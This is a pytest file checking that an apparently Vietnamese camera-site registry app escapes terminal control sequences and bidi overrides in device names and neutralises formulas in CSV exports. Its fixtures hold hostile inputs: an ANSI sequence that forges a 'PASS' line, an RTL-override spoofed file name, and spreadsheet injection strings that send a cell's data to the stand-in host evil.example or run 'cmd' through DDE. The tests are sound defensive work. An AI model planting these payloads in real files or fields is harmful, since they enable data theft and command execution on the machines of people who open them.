"""Text from a device, a recorder or a CSV file cannot repaint the officer's terminal (a fake
"PASS" line) nor run as a formula in the spreadsheet a chief opens; the registry keeps it exact.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import subprocess
import sys
from pathlib import Path

from PySide6.QtCore import Qt
from pytestqt.qtbot import QtBot

from app.domain import Camera, CameraPosition, Epe
from app.rotation.coverage import coverage_csv, month_coverage
from app.safe_text import one_line, printable
from app.sites.csv_io import export_csv, import_csv
from app.sites.registry import Registry
from app.timekeeping import Month
from tests.helpers.faulty_servers import closed_port
from tests.helpers.main_window import shown_main_window
from tests.helpers.menus import choose, right_click

REPO = Path(__file__).resolve().parents[2]
MAIN = "import sys; from app.cli.main import main; sys.exit(main(sys.argv[1:]))"

# Up one line, erase it, back to column 0 and print a verdict; reverse the reading order; hide a
# character behind a backspace; cut the line with NUL; a C1 control sequence introducer.
FAKE_PASS = (
    "Công ty Sao Việt\x1b[1A\x1b[2K\r[PASS] every camera compliant\u202e gnp.exe\x08\x00\x9b"
)
RAW_CONTROLS = ("\x1b", "\r", "\u202e", "\x08", "\x00", "\x9b")
# What a spreadsheet runs when it starts a cell.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1 fullwidth",
    "'already quoted",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "'")


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", MAIN, "--lang", "en", *args],
        cwd=REPO,
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="surrogateescape",
        timeout=120,
    )


def test_a_device_name_cannot_paint_a_fake_line_in_the_terminal(registry: Registry) -> None:
    epe = registry.add_epe(Epe(name=FAKE_PASS, tax_id="0100233488", notes=FAKE_PASS))
    assert epe.id is not None
    registry.add_camera(Camera(epe.id, 1, CameraPosition.GATE, name=FAKE_PASS))

    result = _cli("sites", "list")
    assert result.returncode == 0, result.stderr
    for control in RAW_CONTROLS:
        assert control not in result.stdout + result.stderr
    assert "\\x1b[1A\\x1b[2K\\x0d[PASS]" in result.stdout
    assert "\\u202e" in result.stdout
    # The registry keeps what the device said, byte for byte.
    assert registry.get_epe(epe.id).name == FAKE_PASS
    assert registry.list_cameras()[0].name == FAKE_PASS


def test_printable_and_one_line_escape_every_control_and_keep_vietnamese() -> None:
    assert printable("Cổng chính\nlần 2\tok") == "Cổng chính\nlần 2\tok"
    shown = one_line(FAKE_PASS + "\nnext\u2028line\u2066x\u2069")
    assert shown.isprintable()
    assert "Công ty Sao Việt" in shown and "\\x0anext" in shown and "\\u2028" in shown


def test_every_command_line_printer_goes_through_say_or_complain() -> None:
    """``print`` is called only by app/cli/output.py (and the progress line, which escapes its
    text with one_line), so no handler can print a device's text raw."""
    offenders = []
    for path in sorted((REPO / "app" / "cli").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "print":
                source = ast.get_source_segment(path.read_text(encoding="utf-8"), node) or ""
                if (
                    path.name == "output.py"
                    or "one_line(" in source
                    or source == ("print(file=sys.stderr)")
                ):
                    continue
                offenders.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.Attribute) and node.attr == "write":
                value = node.value
                if isinstance(value, ast.Attribute) and value.attr in ("stdout", "stderr"):
                    source = path.read_text(encoding="utf-8").splitlines()[node.lineno - 1]
                    if "printable(" not in source:
                        offenders.append(f"{path.name}:{node.lineno}")
    assert offenders == []


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _formula_cells(text: str) -> list[str]:
    return [
        cell
        for cell in _cells(text)
        if cell.startswith(TRIGGERS)
        and not cell.lstrip("+-").replace(".", "").isdigit()
        and not (cell.startswith("\t") and cell[1:].isdigit())
        and not cell.startswith("'")
    ]


def _add_formula_epes(registry: Registry) -> None:
    tax_ids = [
        "0100233488",
        "0100109106",
        "1000000026",
        "0100233488-001",
        "0300588569",
        "0100100417",
    ]
    for number, (name, tax_id) in enumerate(zip(FORMULAS, tax_ids, strict=True), start=1):
        epe = registry.add_epe(
            Epe(
                name=name,
                tax_id=tax_id,
                contact_person=FORMULAS[0],
                notes=FORMULAS[1],
                contact_phone="0912345678",
                account_user="@admin",
            )
        )
        assert epe.id is not None
        registry.add_camera(
            Camera(epe.id, number, CameraPosition.GATE, name=FORMULAS[2], notes=FORMULAS[3])
        )


def test_the_sites_export_runs_no_formula_and_reads_back_exactly(
    registry: Registry, tmp_path: Path
) -> None:
    _add_formula_epes(registry)
    before = [
        (e.name, e.tax_id, e.contact_person, e.notes, e.account_user, e.contact_phone)
        for e in registry.list_epes()
    ]
    cameras_before = sorted((c.diagram_number, c.name, c.notes) for c in registry.list_cameras())
    target = tmp_path / "sites.csv"
    result = _cli("sites", "export", "-o", str(target))
    assert result.returncode == 0, result.stderr
    text = target.read_text(encoding="utf-8")

    assert _formula_cells(text) == []
    assert "'=HYPERLINK(" in text and "''already quoted" in text

    # Read back into an empty registry: every value as it was, leading 0 and all.
    with Registry(tmp_path / "other.sqlite3") as other:
        report = import_csv(other, target)
        assert report.problems == []
        after = [
            (e.name, e.tax_id, e.contact_person, e.notes, e.account_user, e.contact_phone)
            for e in other.list_epes()
        ]
        assert sorted(after) == sorted(before)
        cameras_after = sorted((c.diagram_number, c.name, c.notes) for c in other.list_cameras())
        assert cameras_after == cameras_before


def test_tax_ids_and_phones_are_written_as_text_that_keeps_the_leading_zero(
    registry: Registry,
) -> None:
    registry.add_epe(Epe(name="Công ty Sao Việt", tax_id="0100233488", contact_phone="0912345678"))
    out = io.StringIO()
    export_csv(registry, out, bom=False)
    row = next(r for r in csv.reader(io.StringIO(out.getvalue())) if r[0] == "Công ty Sao Việt")
    # A leading tab: Excel keeps the cell as text (the 0 stays) and shows no tab; it is not a
    # formula, unlike ="0100233488".
    assert row[1] == "\t0100233488"
    assert row[5] == "\t0912345678"


def test_the_coverage_csv_runs_no_formula(registry: Registry) -> None:
    _add_formula_epes(registry)
    coverage = month_coverage(registry, Month(2026, 11), today=dt.date(2026, 12, 1))
    text = coverage_csv(coverage)
    assert "=HYPERLINK(" in text
    assert _formula_cells(text) == []


def test_every_csv_of_the_app_is_written_by_the_one_writer() -> None:
    """Coverage, plan, compliance, the check log and the sites list: all through
    app.exports.write_csv, which neutralises formulas."""
    writers = []
    for path in sorted((REPO / "app").rglob("*.py")):
        if path.name == "exports.py" or "simsite" in path.parts:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                writers.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert writers == []


def test_a_device_name_shows_escaped_in_the_tree_the_tile_and_its_tooltip(
    qtbot: QtBot, registry: Registry
) -> None:
    # What a camera or an NVR may call itself: a bidi override and an erase-line sequence.
    name = "Cổng\u202e chính\x1b[2K\rPASS"
    epe = registry.add_epe(Epe(name="Công ty TNHH Điện tử\u200b Sao Việt", tax_id="3601234569"))
    assert epe.id is not None
    camera = registry.add_camera(
        Camera(
            epe.id, 1, CameraPosition.GATE, name=name, sub_url=f"rtsp://127.0.0.1:{closed_port()}/"
        )
    )
    shown = "Cổng\\u202e chính\\x1b[2K\\x0dPASS"
    with shown_main_window(qtbot, registry) as window:
        tree = window.site_tree
        epe_index = tree.proxy.index(0, 0)
        assert epe_index.data() == "Công ty TNHH Điện tử\\u200b Sao Việt"
        tree.view.expand(epe_index)
        row = tree.proxy.index(0, 0, epe_index)
        assert row.data() == f"1. {shown}"
        point = tree.view.visualRect(row).center()
        qtbot.mouseClick(tree.view.viewport(), Qt.MouseButton.LeftButton, pos=point)
        right_click(qtbot, tree.view.viewport(), point)
        menu = tree.context_menu
        assert menu is not None
        qtbot.waitExposed(menu)
        choose(qtbot, menu, "&Live view")
        tile = window.wall.tile_at(0)
        assert tile is not None and tile.camera_id == camera.id
        title, tooltip = tile.title.text(), tile.title.toolTip()
        assert title == f"1. {shown} · Điện tử\\u200b Sao Việt"
        assert tooltip.startswith(f"{shown}\n")
        for text in (title, tooltip, str(row.data())):
            for control in ("\u202e", "\x1b", "\r", "\u200b"):
                assert control not in text
    assert registry.list_cameras()[0].name == name  # the registry keeps it exact
